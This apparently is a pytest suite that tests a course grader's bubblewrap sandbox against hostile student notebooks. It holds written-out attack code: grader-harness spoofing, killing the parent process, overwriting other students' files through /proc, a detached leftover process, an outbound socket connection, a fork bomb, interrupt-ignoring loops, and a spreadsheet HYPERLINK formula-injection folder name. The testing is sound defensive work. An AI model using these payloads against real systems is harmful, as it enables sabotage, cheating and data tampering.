"""A hostile class, graded in one batch next to honest submissions: the sandbox and the outside verdicts hold.

Each hostile submission is Lab 11.2's solution (or a wrong version of it) with
one attack in its exercise cell, one per kind of attack a submission can try:
fooling the grader's in-kernel code, borrowing the reference, signalling or
reading the grader, writing outside its sandbox, leaving a process behind,
connecting out, exhausting processes, ignoring interrupts. Several attacks
are written so that they *earn* full marks only if the sandbox holds (for
example: "if I can read the hidden cases, return nonsense"), so a passing
score proves the isolation, not just a failing one.

The batch runs with two workers; afterwards the test checks that the honest
submissions got full marks, no file outside the sandbox changed, no process
of the sandbox survived, nobody connected to the listening socket, and the
batch finished within its budget. Marked ``slow`` and ``sandboxed``: part of ``make test-sandboxed``.
"""

from __future__ import annotations

import hashlib
import os
import socket
import time
import uuid
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from grading_corpus import edited, replace, solution
from nbformat import NotebookNode

from course_grader import GradeOptions, GradeResult, Limits, SandboxSettings, grade_folder, write_csv
from course_grader.cli import app as cli
from course_grader.cli import grade as grade_command
from course_grader.intake.discovery import find_submissions
from course_grader.sandbox.bubblewrap import bubblewrap

pytestmark = [pytest.mark.slow, pytest.mark.sandboxed]

LIMITS = Limits(cell_timeout=3, interrupt_grace=2, budget=60)
MARKER = f"course-grade-hostile-{uuid.uuid4().hex[:8]}"
HOST_TMP_FILE = Path("/tmp") / f"{MARKER}.txt"
WRONG = replace("            current.append(entry)\n", "            current = [entry]\n")
"""A plausible wrong group_interactions: every message opens a new group."""


def prelude(code: str, correct_when: str | None = None):
    """Put ``code`` before the solution; with ``correct_when``, the solution survives only if that holds."""

    def change(source: str) -> str:
        if correct_when is None:
            return code + "\n\n" + source
        guard = f"\n\nif not ({correct_when}):\n    def group_interactions(message_entries):\n        return []\n"
        return code + "\n\n" + source + guard

    return change


def chain(*changes):
    def change(source: str) -> str:
        for step in changes:
            source = step(source)
        return source

    return change


def honest() -> NotebookNode:
    return solution("11.2")


def hostile(change) -> NotebookNode:
    return edited(solution("11.2"), "group_interactions", change)


def wrong_and(code: str) -> NotebookNode:
    notebook = hostile(WRONG)
    return edited(notebook, "group_interactions", prelude(code))


SUBMISSIONS: dict[str, tuple[object, str]] = {
    # name: (notebook, expected outcome: "full", "zero" or "less")
    "honest_alice": (honest(), "full"),
    "honest_bob": (honest(), "full"),
    "fakes_the_harness": (
        wrong_and(
            "import course_lib.checklist.harness as _h\n"
            "_h.check = lambda ns, n, names: _h.Reply({'points': [], 'status': 'completed'})\n"
            "_h.call = lambda ns, request: _h.Reply({'kind': 'returned', 'value': [], 'mutated': False})\n"
            "_h.record_case = lambda case, impl: {'points': [], 'status': 'completed'}\n"
        ),
        "less",
    ),
    "reference_from_a_thread": (
        hostile(
            chain(
                prelude(
                    "import threading, course_lib.grouping\n"
                    "def _reference(entries):\n"
                    "    box = {}\n"
                    "    t = threading.Thread(target=lambda: box.update(v=course_lib.grouping.group_interactions(entries)))\n"
                    "    t.start(); t.join()\n"
                    "    return box['v']\n"
                ),
                lambda s: s + "\n\ngroup_interactions = _reference\n",
            )
        ),
        "zero",
    ),
    "reference_without_profiler": (
        hostile(
            lambda s: (
                s
                + (
                    "\n\nimport sys, course_lib\n"
                    "def group_interactions(entries):\n"
                    "    sys.setprofile(None)\n"
                    "    return course_lib.group_interactions(entries)\n"
                )
            )
        ),
        "zero",
    ),
    "kills_its_parent": (
        hostile(
            prelude(
                "import os, signal\n"
                "for _pid in (os.getppid(), 1):\n"
                "    try:\n"
                "        os.kill(_pid, signal.SIGKILL)\n"
                "    except OSError:\n"
                "        pass\n"
            )
        ),
        "full",
    ),
    "rewrites_other_students": (
        hostile(
            prelude(
                "import os\n"
                "_touched = []\n"
                "for _pid in os.listdir('/proc'):\n"
                "    for _name in ('cwd',):\n"
                "        try:\n"
                "            _base = os.readlink(f'/proc/{_pid}/{_name}')\n"
                "        except OSError:\n"
                "            continue\n"
                "        for _root, _dirs, _files in os.walk(_base):\n"
                "            for _file in _files:\n"
                "                if _file.endswith('.ipynb') or _file.endswith('.csv'):\n"
                "                    try:\n"
                "                        open(os.path.join(_root, _file), 'w').write('overwritten')\n"
                "                        _touched.append(_file)\n"
                "                    except OSError:\n"
                "                        pass\n",
                correct_when="not _touched",
            )
        ),
        "full",
    ),
    "writes_host_tmp": (hostile(prelude(f"open({str(HOST_TMP_FILE)!r}, 'w').write('escaped')\n")), "full"),
    "leaves_a_process_behind": (
        hostile(
            prelude(
                "import subprocess, sys\n"
                f"subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(20)  # {MARKER}'], start_new_session=True)\n"
            )
        ),
        "full",
    ),
    "connects_out": (
        hostile(
            prelude(
                "import os, socket\n"
                "_connected = False\n"
                "try:\n"
                "    socket.create_connection(('127.0.0.1', int(os.environ.get('HOSTILE_PORT', '{port}'))), timeout=2).sendall(b'hi')\n"
                "    _connected = True\n"
                "except OSError:\n"
                "    pass\n",
                correct_when="not _connected",
            )
        ),
        "full",
    ),
    "reads_the_answers": (
        hostile(
            prelude(
                "import glob, os, course_lib\n"
                "_package = os.path.dirname(course_lib.__file__)\n"
                "_secrets = glob.glob(os.path.join(_package, '..', 'course_grader', '**', '*.py'), recursive=True)\n"
                "_secrets += glob.glob('{grader}/**/*.py', recursive=True)\n"
                "_secrets += glob.glob(os.path.join(_package, '..', 'labs', 'solutions', '*.ipynb'))\n"
                "_secrets += glob.glob('{solutions}/*.ipynb')\n"
                "_read = [p for p in _secrets if os.path.exists(p)]\n"
                "try:\n"
                "    import course_grader.judging.hidden_cases\n"
                "    _read.append('import')\n"
                "except ImportError:\n"
                "    pass\n",
                correct_when="not _read",
            )
        ),
        "full",
    ),
    "fork_bomb": (
        hostile(
            prelude(
                "import os\n"
                "_children = 0\n"
                "for _ in range(200):\n"
                "    try:\n"
                "        _pid = os.fork()\n"
                "    except OSError:\n"
                "        break\n"
                "    if _pid == 0:\n"
                "        import time; time.sleep(1); os._exit(0)\n"
                "    _children += 1\n"
                "for _ in range(_children):\n"
                "    os.wait()\n",
                correct_when="_children < 200",
            )
        ),
        "full",
    ),
    "ignores_interrupts": (
        hostile(
            chain(
                replace(
                    "    groups: list[InteractionGroup] = []\n",
                    "    while True:\n        pass\n    groups: list[InteractionGroup] = []\n",
                ),
                prelude(
                    "import signal\n"
                    "signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                    "signal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
                ),
            )
        ),
        "zero",
    ),
}


def _digest(folder: Path) -> dict[str, str]:
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def _sandbox_processes(views: Path) -> list[str]:
    """Processes of this batch still alive: its bwrap sandboxes (their command names the batch's package
    views) or the hostile submission's left-behind process (its marker). A kernel cannot outlive its
    bwrap: the PID namespace dies with it. Other test runs on the machine are not counted."""
    found = []
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            command = cmdline.read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if MARKER in command or (command.startswith("bwrap") and str(views) in command):
            found.append(f"{cmdline.parent.name}: {command[:80]}")
    return found


def _listen_below_the_ephemeral_ports() -> socket.socket:
    """A host port that nothing in a sandbox can hold by chance.

    A sandbox's kernel listens on an ephemeral port of its own network namespace, and an outgoing
    connection takes one as its source (a socket can even connect to itself). A port below that
    range (32768 in a new namespace) is never one of them, so ``connects_out`` connecting means
    it reached the host.
    """
    for port in range(32767, 20000, -1):
        listener = socket.socket()
        try:
            listener.bind(("127.0.0.1", port))
        except OSError:
            listener.close()
            continue
        return listener
    raise RuntimeError("no free port between 20000 and 32767 on 127.0.0.1")


@pytest.fixture(scope="module")
def cgroups_before() -> set[Path]:
    """The grader's cgroups on the machine before the batch: other runs' (a killed run's leftovers, a run beside)."""
    from course_grader.sandbox import cgroup

    return cgroup.made_here()


@pytest.fixture(scope="module")
def batch(
    tmp_path_factory: pytest.TempPathFactory,
    cgroups_before: set[Path],
) -> tuple[dict[str, GradeResult], float, list[str], bytes, list[str]]:
    if bubblewrap() is None:
        pytest.fail("bubblewrap is not installed: run `make grading-tools`")
    root = tmp_path_factory.mktemp("hostile")
    folder = root / "submissions"
    listener = _listen_below_the_ephemeral_ports()
    listener.listen()
    listener.setblocking(False)
    port = listener.getsockname()[1]
    for name, (notebook, _) in SUBMISSIONS.items():
        (folder / name).mkdir(parents=True)
        text = __import__("nbformat").writes(notebook).replace("{port}", str(port))
        text = text.replace("{solutions}", str(Path(__file__).resolve().parents[3] / "labs" / "solutions"))
        text = text.replace("{grader}", str(Path(__file__).resolve().parents[3] / "course_grader"))
        (folder / name / "lab_11_2_group_interactions.ipynb").write_text(text, encoding="utf-8")
    before = _digest(folder)
    started = time.monotonic()
    views = root / "views"
    views.mkdir()
    results = grade_folder(
        folder, GradeOptions(sandbox=SandboxSettings(limits=LIMITS, views=str(views))), jobs=2, progress=False
    )
    seconds = time.monotonic() - started
    write_csv(results, root / "grades.csv")
    time.sleep(3)  # long enough for a left-behind process to act, if one had survived
    try:
        received = listener.accept()[0].recv(100)
    except BlockingIOError:
        received = b""
    listener.close()
    changed = [name for name, digest in _digest(folder).items() if before.get(name) != digest]
    return {r.student: r for r in results}, seconds, changed, received, _sandbox_processes(views)


@pytest.mark.parametrize("name", list(SUBMISSIONS))
def test_each_submission_scores_as_the_isolation_demands(name: str, batch) -> None:
    result = batch[0][name]
    expected = SUBMISSIONS[name][1]
    feedback = "\n".join([*result.notes, *(t.output for t in result.tests)])
    if expected == "full":
        assert result.score == result.max_score > 0, feedback
    elif expected == "zero":
        assert result.score == 0, feedback
    else:
        assert result.score < result.max_score, feedback
    assert result.sandbox == "bubblewrap"


def test_borrowing_the_reference_says_so(batch) -> None:
    """Calling the stub directly names it; from a thread the learner's own code loses the error (score 0 above)."""
    result = batch[0]["reference_without_profiler"]
    assert all("not available while grading" in t.output for t in result.tests)


def test_an_ignored_interrupt_costs_one_time_limit_not_the_budget(batch) -> None:
    result = batch[0]["ignores_interrupts"]
    assert result.status == "timeout"
    assert result.execution_time < LIMITS.budget


def test_nothing_outside_the_sandboxes_changed_and_nothing_survived(batch) -> None:
    results, seconds, changed, received, survivors = batch
    assert changed == []
    assert not HOST_TMP_FILE.exists()
    assert received == b""
    assert survivors == []
    assert seconds < LIMITS.budget * len(SUBMISSIONS) / 2
    assert len(results) == len(SUBMISSIONS)


# --- the command line refuses before it grades -----------------------------------------


def _usage_error(capsys: pytest.CaptureFixture[str], *argv: str) -> str:
    with pytest.raises(SystemExit) as stopped:
        cli.main(list(argv))
    assert stopped.value.code == 2
    return capsys.readouterr().err


def test_usage_errors_come_before_any_grading(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = tmp_path / "subs"
    (folder / "alice").mkdir(parents=True)
    notebook = folder / "alice" / "lab_11_2_group_interactions.ipynb"
    notebook.write_text(__import__("nbformat").writes(honest()), encoding="utf-8")
    assert "does not exist" in _usage_error(capsys, str(folder), "--out", str(tmp_path / "missing" / "g.csv"))
    assert "does not exist" in _usage_error(capsys, str(notebook), "--results", str(tmp_path / "missing" / "r.json"))
    assert "is a folder" in _usage_error(capsys, str(folder), "--out", str(tmp_path))
    (tmp_path / "empty").mkdir()
    assert "no notebooks" in _usage_error(capsys, str(tmp_path / "empty"), "--out", str(tmp_path / "g.csv"))
    for option, value in (("--timeout", "0"), ("--timeout", "-1"), ("--memory", "-5"), ("--budget", "0")):
        assert "must be > 0" in _usage_error(capsys, str(folder), option, value)
    assert "no such folder" in _usage_error(capsys, str(folder), "--labs", "/nonexistent")
    assert not (tmp_path / "g.csv").exists()


def test_a_folder_that_cannot_be_read_gets_a_row(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "subs"
    for student in ("alice", "zoe"):
        (folder / student).mkdir(parents=True)
    (folder / "alice" / "lab_11_2.ipynb").write_text("not a notebook")
    scandir = os.scandir

    def refusing(path: Any = ".") -> Any:
        if str(path).endswith("zoe"):
            raise PermissionError(13, "Permission denied", str(path))
        return scandir(path)

    monkeypatch.setattr(os, "scandir", refusing)
    unreadable: list[Path] = []
    assert find_submissions(folder, unreadable) == [folder / "alice" / "lab_11_2.ipynb"]
    assert unreadable == [folder / "zoe"]
    results = grade_folder(folder, GradeOptions(sandbox=SandboxSettings(limits=LIMITS)), progress=False)
    rows = {r.student: r for r in results}
    assert set(rows) == {"alice", "zoe"}
    assert rows["zoe"].status == "error" and "could not be read" in rows["zoe"].notes[0]


def test_results_are_written_whole_or_not_at_all(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from course_grader import files as files_module

    target = tmp_path / "grades.csv"
    target.write_text("previous\n")

    def failing_replace(source: str, destination: str) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(files_module.os, "replace", failing_replace)
    with pytest.raises(OSError, match="disk full"):
        write_csv([], target)
    assert target.read_text() == "previous\n"
    assert [p.name for p in tmp_path.iterdir()] == ["grades.csv"]


def test_without_bubblewrap_grading_refuses_unless_told(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    notebook = tmp_path / "alice_lab_11_2.ipynb"
    notebook.write_text(__import__("nbformat").writes(honest()), encoding="utf-8")
    monkeypatch.setattr(grade_command, "bubblewrap", lambda: None)
    assert "apt-get install bubblewrap" in _usage_error(capsys, str(notebook), "--results", str(tmp_path / "r.json"))
    assert cli.main([str(notebook), "--results", str(tmp_path / "r.json"), "--no-sandbox", "--timeout", "3"]) == 0
    captured = capsys.readouterr()
    assert "without a sandbox" in captured.err and "total 5/5" in captured.out
    assert "hidden cases drawn from the secret" in captured.out
    assert pd.io.json.read_json(tmp_path / "r.json", typ="series")["score"] == 5


# --- whole-sandbox limits (helper "sandbox", issue 22): every sandbox's cgroup is gone -------------------
# The bwrap processes above are found by the batch's views folder in their command line; each sandbox
# now binds a private copy of the view, so this check covers survivors instead: every process of a
# sandbox is in its cgroup, and a cgroup is removed only once nothing is left in it.


def test_no_sandbox_cgroup_survives_the_batch(batch, cgroups_before: set[Path]) -> None:
    """Every cgroup the batch's workers made is gone; another run's, alive beside it or left before it, is not ours."""
    from course_grader.sandbox import cgroup

    assert cgroup.unavailable() is None, "the hostile batch must run with a cgroup per sandbox (CI runs as root)"
    made_during = cgroup.made_here() - cgroups_before
    survivors = {folder for folder in made_during if not Path("/proc", folder.name.split("-")[2]).exists()}
    assert survivors == set()


# --- identity and inputs are the instructor's (issue: grades that hold under a whole class) -------
# One real batch: the folder decides who, links and FIFOs are refused unopened, a file name and its
# metadata disagreeing on the lab is noted, and a spreadsheet cannot run a student's folder name.

FORMULA_FOLDER = '=HYPERLINK("https:x.example"&A1,"x")'


@pytest.fixture(scope="module")
def identity_batch(tmp_path_factory: pytest.TempPathFactory) -> tuple[dict[str, GradeResult], list[dict[str, str]]]:
    import csv

    import nbformat

    root = tmp_path_factory.mktemp("identity")
    folder = root / "submissions"

    def put(relative: str, notebook: NotebookNode, **course: str) -> Path:
        notebook = __import__("copy").deepcopy(notebook)
        notebook.metadata["course"] = {**notebook.metadata.get("course", {}), **course}
        path = folder / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        nbformat.write(notebook, path)
        return path

    put("bob/lab_11_2_group_interactions.ipynb", honest(), student="bob")
    put("mallory/lab_11_2_group_interactions.ipynb", hostile(WRONG), student="bob")
    put(f"{FORMULA_FOLDER}/lab_11_2_group_interactions.ipynb", honest())
    put("conflict/lab_11_3_build_context.ipynb", honest(), lab="11.2")
    outside = put("../solutions/lab_11_2_group_interactions.ipynb", honest())
    (folder / "linker").mkdir()
    (folder / "linker" / "lab_11_2_group_interactions.ipynb").symlink_to(outside)
    (folder / "piper").mkdir()
    os.mkfifo(folder / "piper" / "lab_11_2_group_interactions.ipynb")
    results = grade_folder(folder, GradeOptions(sandbox=SandboxSettings(limits=LIMITS)), jobs=2, progress=False)
    write_csv(results, root / "grades.csv")
    with (root / "grades.csv").open(newline="", encoding="utf-8") as file:
        table = list(csv.DictReader(file))
    return {r.submission.split("/")[0]: r for r in results}, table


def test_a_notebook_naming_another_student_is_its_folders_row(identity_batch) -> None:
    rows = identity_batch[0]
    assert (rows["bob"].student, rows["bob"].score, rows["bob"].max_score) == ("bob", 5, 5)
    assert rows["mallory"].student == "mallory" and rows["mallory"].score < 5
    assert "names 'bob'" in " ".join(rows["mallory"].notes)
    assert rows["bob"].submission != rows["mallory"].submission


def test_links_and_fifos_in_the_folder_get_an_error_row_and_the_batch_goes_on(identity_batch) -> None:
    rows = identity_batch[0]
    for name, what in (("linker", "a symbolic link"), ("piper", "a FIFO")):
        assert rows[name].status == "error" and rows[name].score == 0 and what in rows[name].notes[0]
    assert rows[FORMULA_FOLDER].score == 5


def test_a_file_name_and_metadata_disagreeing_on_the_lab_is_not_silently_full_marks(identity_batch) -> None:
    result = identity_batch[0]["conflict"]
    assert result.lab == "11.3" and result.score < result.max_score
    assert "metadata (course.lab) says Lab 11.2" in result.notes[0]


def test_the_csv_cannot_run_a_students_folder_name(identity_batch) -> None:
    row = next(r for r in identity_batch[1] if FORMULA_FOLDER in r["student"])
    assert row["student"] == "'" + FORMULA_FOLDER and row["file"].startswith("'=")
    assert row["file"] == f"'{FORMULA_FOLDER}/lab_11_2_group_interactions.ipynb"
